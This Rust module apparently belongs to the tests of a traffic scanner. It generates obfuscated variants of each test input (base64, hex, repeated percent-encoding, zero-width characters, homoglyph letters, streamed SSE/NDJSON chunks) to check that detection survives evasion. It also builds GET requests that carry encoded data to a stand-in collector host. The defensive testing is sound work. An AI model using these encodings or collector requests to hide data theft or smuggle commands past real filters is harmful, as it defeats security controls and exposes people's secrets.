//! The forms a case's input takes once encoded the way secrets and commands are smuggled:
//! base64 (padded, URL-safe, line-wrapped with `\n` / `\r\n`, wrapped inside a JSON string),
//! hex (plain, upper case with `:`, `-` or space separators), base64 of hex, percent-encoded
//! two and three times (form bodies, targets), base64 and hex in a query string, zero-width
//! characters inside, and Cyrillic/Greek look-alikes of its Latin letters. Each is a full
//! message of the case's direction.

use guardian_parser::scan::Direction;

use super::views::{ndjson_body, sse_body, SSE_SHAPES};
use super::{json_escape, message, request};

/// Base64 with the standard alphabet and padding.
pub fn base64(data: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in data.chunks(3) {
        let b = [
            chunk[0],
            chunk.get(1).copied().unwrap_or(0),
            chunk.get(2).copied().unwrap_or(0),
        ];
        let n = u32::from(b[0]) << 16 | u32::from(b[1]) << 8 | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(ALPHABET[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// Base64url without padding.
pub fn base64url(data: &[u8]) -> String {
    base64(data)
        .trim_end_matches('=')
        .replace('+', "-")
        .replace('/', "_")
}

/// `text` cut into lines of `width` joined by `eol`.
pub fn wrap(text: &str, width: usize, eol: &str) -> String {
    text.as_bytes()
        .chunks(width)
        .map(|c| String::from_utf8_lossy(c).into_owned())
        .collect::<Vec<_>>()
        .join(eol)
}

/// Hex digits of `data`, in upper or lower case, with `sep` between bytes.
pub fn hex(data: &[u8], upper: bool, sep: &str) -> String {
    data.iter()
        .map(|b| {
            if upper {
                format!("{b:02X}")
            } else {
                format!("{b:02x}")
            }
        })
        .collect::<Vec<_>>()
        .join(sep)
}

/// Every byte as `%XX`, then the `%` signs encoded again `times - 1` times.
pub fn percent_times(data: &[u8], times: usize) -> String {
    let mut text: String = data.iter().map(|b| format!("%{b:02X}")).collect();
    for _ in 1..times {
        text = text.replace('%', "%25");
    }
    text
}

/// Zero-width and format characters inserted inside the text, between ASCII characters.
pub fn with_zero_width(data: &[u8]) -> Vec<u8> {
    const HIDDEN: [&str; 6] = [
        "\u{200b}", "\u{200c}", "\u{200d}", "\u{2060}", "\u{feff}", "\u{00ad}",
    ];
    let mut out = Vec::new();
    let mut n = 0;
    for (i, &b) in data.iter().enumerate() {
        out.push(b);
        let next_ascii = data.get(i + 1).is_some_and(|n| n.is_ascii_graphic());
        if b.is_ascii_alphanumeric() && next_ascii && i % 3 == 1 {
            out.extend_from_slice(HIDDEN[n % HIDDEN.len()].as_bytes());
            n += 1;
        }
    }
    out
}

/// Latin letters replaced by Cyrillic (and some Greek) look-alikes.
pub fn with_look_alikes(data: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    for (i, &b) in data.iter().enumerate() {
        let greek = i % 2 == 0;
        let look_alike = match b {
            b'a' if greek => "α",
            b'a' => "а",
            b'e' => "е",
            b'o' if greek => "ο",
            b'o' => "о",
            b'p' => "р",
            b'c' => "с",
            b'x' => "х",
            b'i' => "і",
            b's' => "ѕ",
            b'j' => "ј",
            _ => {
                out.push(b);
                continue;
            }
        };
        out.extend_from_slice(look_alike.as_bytes());
    }
    out
}

/// The input, padded with line ends to the shortest run that is decoded (18 bytes: 24
/// base64 characters, 36 hex digits).
pub fn padded(input: &[u8]) -> Vec<u8> {
    let mut data = input.to_vec();
    while data.len() < 18 {
        data.push(b'\n');
    }
    data
}

/// Every encoded form of `input` for messages travelling in `direction`. `folded`: the case's
/// rule is a path or command rule, so its look-alike form applies too.
pub fn encoded_forms(direction: Direction, input: &[u8], folded: bool) -> Vec<(String, Vec<u8>)> {
    let data = padded(input);
    let b64 = base64(&data);
    let plain = |name: &str, body: String| {
        (
            name.to_string(),
            message(direction, "text/plain", "", body.as_bytes()),
        )
    };
    let json = |name: &str, body: String| {
        (
            name.to_string(),
            message(direction, "application/json", "", body.as_bytes()),
        )
    };
    let mut forms = vec![
        plain("base64", format!("payload: {b64}\n")),
        json(
            "base64url-json",
            format!("{{\"blob\":\"{}\"}}", base64url(&data)),
        ),
        plain(
            "base64-wrapped-64",
            format!("data:\n{}\n", wrap(&b64, 64, "\n")),
        ),
        plain(
            "base64-wrapped-28-crlf",
            format!("{}\r\n", wrap(&b64, 28, "\r\n")),
        ),
        json(
            "base64-wrapped-in-json",
            format!("{{\"pem\":\"{}\"}}", wrap(&b64, 28, "\\n")),
        ),
        plain(
            "base64-wrapped-escaped",
            format!("x=\"{}\"", wrap(&b64, 32, "\\r\\n")),
        ),
        plain("hex", format!("blob={}", hex(&data, false, ""))),
        plain("hex-colons", format!("dump {} end", hex(&data, true, ":"))),
        plain("hex-dashes", format!("id {}.", hex(&data, false, "-"))),
        plain(
            "hex-spaces",
            format!("00000000  {}\n", hex(&data, false, " ")),
        ),
        plain(
            "base64-of-hex",
            format!("v={}", base64(hex(&data, false, "").as_bytes())),
        ),
        plain(
            "hex-of-base64",
            format!("v={}", hex(base64(&data).as_bytes(), true, "")),
        ),
    ];
    forms.push((
        "zero-width".into(),
        message(direction, "text/plain", "", &with_zero_width(input)),
    ));
    forms.push((
        "zero-width-json".into(),
        message(
            direction,
            "application/json",
            "",
            format!("{{\"text\":\"{}\"}}", json_escape(&with_zero_width(input))).as_bytes(),
        ),
    ));
    if folded {
        forms.push((
            "look-alikes".into(),
            message(direction, "text/plain", "", &with_look_alikes(input)),
        ));
        forms.push((
            "look-alikes-zero-width".into(),
            message(
                direction,
                "text/markdown",
                "",
                &with_zero_width(&with_look_alikes(input)),
            ),
        ));
    }
    if direction == Direction::Outbound {
        for times in [2, 3] {
            forms.push((
                format!("form-percent-{times}"),
                request(
                    "application/x-www-form-urlencoded",
                    "",
                    format!("a=1&data={}", percent_times(input, times)).as_bytes(),
                ),
            ));
            forms.push((
                format!("target-percent-{times}"),
                target(&format!("/q?data={}", percent_times(input, times))),
            ));
        }
        forms.push((
            "target-base64url".into(),
            target(&format!("/collect?d={}&v=2", base64url(&data))),
        ));
        forms.push((
            "target-base64-percent".into(),
            target(&format!(
                "/collect?d={}",
                base64(&data)
                    .replace('+', "%2B")
                    .replace('/', "%2F")
                    .replace('=', "%3D")
            )),
        ));
        forms.push((
            "target-hex".into(),
            target(&format!("/collect?h={}", hex(&data, false, ""))),
        ));
        if folded {
            forms.push((
                "target-look-alikes".into(),
                target(&format!(
                    "/q?data={}",
                    percent_times(&with_look_alikes(input), 1)
                )),
            ));
        }
        forms.push((
            "target-zero-width".into(),
            target(&format!(
                "/q?data={}",
                percent_times(&with_zero_width(input), 1)
            )),
        ));
    }
    forms
}

/// A GET request for `path` on the collector.
fn target(path: &str) -> Vec<u8> {
    format!("GET http://collector.example{path} HTTP/1.1\r\nHost: collector.example\r\n\r\n")
        .into_bytes()
}

/// The base64 and hex forms of `input` (padded to a decoded run) carried as text deltas: in
/// every provider's SSE shape split into deltas of 1, 3 and 7 characters, and as NDJSON in
/// 3-character deltas; and `input` with zero-width characters inside (and, when `folded`: the
/// case's rule is a path or command rule, with look-alike letters too) in every SSE shape in
/// 3-character deltas and as NDJSON. Each is a full message of the case's direction.
pub fn encoded_stream_forms(
    direction: Direction,
    input: &[u8],
    folded: bool,
) -> Vec<(String, Vec<u8>)> {
    let data = padded(input);
    let mut forms = Vec::new();
    for (encoding, text) in [
        ("base64", format!("payload: {}\n", base64(&data))),
        ("hex", format!("blob={} end", hex(&data, false, ""))),
    ] {
        for (shape, _, _) in SSE_SHAPES {
            for size in [1, 3, 7] {
                forms.push((
                    format!("sse-{shape}-{size}-{encoding}"),
                    message(
                        direction,
                        "text/event-stream",
                        "",
                        &sse_body(shape, &text, size),
                    ),
                ));
            }
        }
        forms.push((
            format!("ndjson-3-{encoding}"),
            message(
                direction,
                "application/x-ndjson",
                "",
                &ndjson_body(&text, 3),
            ),
        ));
    }
    let mut cleaned = vec![("zero-width", with_zero_width(input))];
    if folded {
        cleaned.push((
            "look-alikes-zero-width",
            with_zero_width(&with_look_alikes(input)),
        ));
    }
    for (name, bytes) in cleaned {
        let Ok(text) = String::from_utf8(bytes) else {
            continue;
        };
        for (shape, _, _) in SSE_SHAPES {
            forms.push((
                format!("sse-{shape}-3-{name}"),
                message(
                    direction,
                    "text/event-stream",
                    "",
                    &sse_body(shape, &text, 3),
                ),
            ));
        }
        forms.push((
            format!("ndjson-3-{name}"),
            message(
                direction,
                "application/x-ndjson",
                "",
                &ndjson_body(&text, 3),
            ),
        ));
    }
    forms
}
